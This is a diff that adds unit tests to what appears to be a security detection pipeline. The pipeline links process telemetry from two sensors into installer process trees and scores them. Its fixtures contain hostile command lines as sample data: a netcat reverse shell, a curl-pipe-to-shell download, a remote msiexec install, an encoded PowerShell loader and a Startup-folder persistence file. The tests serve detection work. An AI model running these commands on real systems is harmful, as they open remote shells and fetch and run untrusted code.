@@ -12,6 +12,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from installer_trees.catalogue import Catalogue, load
 from installer_trees.entries import SIGNAL_COLUMNS
+from installer_trees.identity import CACHED_CHARS
 from installer_trees.key_index import KeyIndex
 from installer_trees.model import Settings
 from installer_trees.pipeline import Pipeline
@@ -791,3 +792,110 @@ def test_how_a_host_is_spelled_changes_no_id() -> None:
         assert len(found) == 2
         ids.add(found)
     assert len(ids) == 1
+
+
+SCRIPT = {"dest": "h", "user": "u"}
+LOADER = "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"
+
+
+@pytest.mark.parametrize("late", [0.5, 1.5])
+def test_what_happened_before_the_richer_copy_of_a_process_is_still_its_own(late: float) -> None:
+    """Two sensors have two clocks; what only the first tells is not lost by the second."""
+    first = {
+        **SCRIPT, "_time": START, "process_id": 100, "process_name": "msiexec.exe",
+        "process": "msiexec.exe /i http://203.0.113.7/a.msi", "parent_process_id": 50,
+        "parent_process_name": "cmd.exe",
+    }  # fmt: skip
+    richer = {**first, "_time": START + late, "process_guid": "{A}", "parent_process_guid": "{P}"}
+    child = {
+        **SCRIPT, "_time": START + 0.2, "process_id": 101, "process_name": "powershell.exe",
+        "process": LOADER, "parent_process_id": 100, "parent_process_name": "msiexec.exe",
+    }  # fmt: skip
+    event = {
+        "dest": "h", "_time": START + 0.2, "process_id": 100, "process_name": "msiexec.exe",
+        "file_path": "C:\\Users\\u\\Start Menu\\Programs\\Startup\\x.lnk", "action": "created",
+    }  # fmt: skip
+    (one,) = tree_rows([first, child, event], shipped())
+    (both,) = tree_rows([first, richer, child, event], shipped())
+    assert (both["installer_score"], both["signal"]) == (one["installer_score"], one["signal"])
+
+
+def test_what_another_sensor_adds_hides_nothing_beside_an_installer() -> None:
+    """The second names the shell by GUID; what the first tells of it stays beside it."""
+    rows = completed(
+        [
+            {"process": "bash", "process_id": 50},
+            {"process": "pip install evilpkg", "process_id": 54, "parent": 0},
+            {"process": "python3 -m evilpkg", "process_id": 56, "parent": 0},
+            {"process": "nc -e /bin/sh 203.0.113.4 4444", "process_id": 57, "parent": 2},
+        ]
+    )
+    again = {**rows[1], "process_guid": "{I}", "parent_process_guid": "{S}"}
+    (one,), (both,) = (tree_rows([*rows, *more], shipped()) for more in ([], [again]))
+    assert one["installer_score"] > 60
+    assert (both["installer_score"], both["tree"]) == (one["installer_score"], one["tree"])
+
+
+def test_a_child_belongs_to_what_its_parent_had_become_by_exec() -> None:
+    """One sensor tells every exec, the other the first image alone, with a GUID for all of them."""
+    rows = completed(
+        [
+            {"process": "-bash", "process_id": 10},
+            {"process": "bash -c 'apt-get install x'", "process_id": 11, "parent": 0},
+            {"process": "apt-get install x", "process_id": 11, "parent": 0},
+            {"process": "sh -c 'curl http://203.0.113.7/a | sh'", "process_id": 12, "parent": 2},
+        ]
+    )
+    names = {"bash": "{10}", "apt-get": "{11}", "-bash": "{10}"}
+    guided = [
+        {
+            **row,
+            "process_guid": f"{{{row['process_id']}}}",
+            "parent_process_guid": names.get(str(row.get("parent_process_name")), "{1}"),
+        }
+        for row in (rows[0], rows[1], rows[3])
+    ]
+    assert shapes(rows) == shapes([*rows, *guided]) == ["apt-get(sh)"]
+
+
+def test_an_event_of_another_program_with_an_id_of_before_is_not_an_installers() -> None:
+    """A process id is given again: by then it has another name, or much time has passed."""
+    rows = completed(
+        [
+            {"process": "msiexec.exe /i C:\\t\\a.msi", "process_id": 100},
+            {"process": "cmd.exe /c copy a b", "process_id": 101, "parent": 0},
+        ]
+    )
+    path = "C:\\Users\\u\\Start Menu\\Programs\\Startup\\x.lnk"
+    event = {"dest": rows[0]["dest"], "process_id": 101, "file_path": path, "action": "created"}
+    for days, name, owned in ((0.1, "cmd.exe", 1), (0.1, "OUTLOOK.EXE", 0), (2, "cmd.exe", 0)):
+        late = {**event, "_time": float(rows[1]["_time"]) + 86_400 * days, "process_name": name}
+        pipeline, kept = run([*rows, late], CATALOGUE)
+        assert len(pipeline._tree(kept[0]).events) == owned, (days, name)
+
+
+def test_guids_that_differ_in_case_are_one() -> None:
+    guid = "{B81B27B7-1C4D-6571-0A01-00000000AB00}"
+    rows = completed(
+        [
+            {"process": "msiexec.exe /i C:\\t\\a.msi", "process_id": 100, "process_guid": guid},
+            {"process": "cmd.exe /c whoami", "process_id": 101, "process_guid": "{C}", "parent": 0},
+            {"by": 0, "file_path": "C:\\x.exe", "action": "created"},
+        ]
+    )
+    rows[1]["parent_process_guid"] = rows[2]["process_guid"] = guid.lower()
+    pipeline, kept = run(rows, CATALOGUE)
+    (tree,) = [pipeline._tree(one) for one in kept]
+    assert (len(tree.nodes), len(tree.events)) == (2, 1)
+
+
+def test_long_lines_are_not_kept_in_memory_for_good() -> None:
+    rows = [{"process": "dpkg -i x.deb", "process_id": 1}]
+    rows += [{"process": f"sh -c {i}{'x' * 30_000}", "process_id": i + 2, "parent": 0}
+             for i in range(1_200)]  # fmt: skip
+    pipeline, kept = run(completed(rows), CATALOGUE)
+    assert kept
+    linker = pipeline._linker
+    assert linker is not None
+    held = sum(len(process.process) for process in linker._processes.values())
+    assert held <= CACHED_CHARS + 40_000
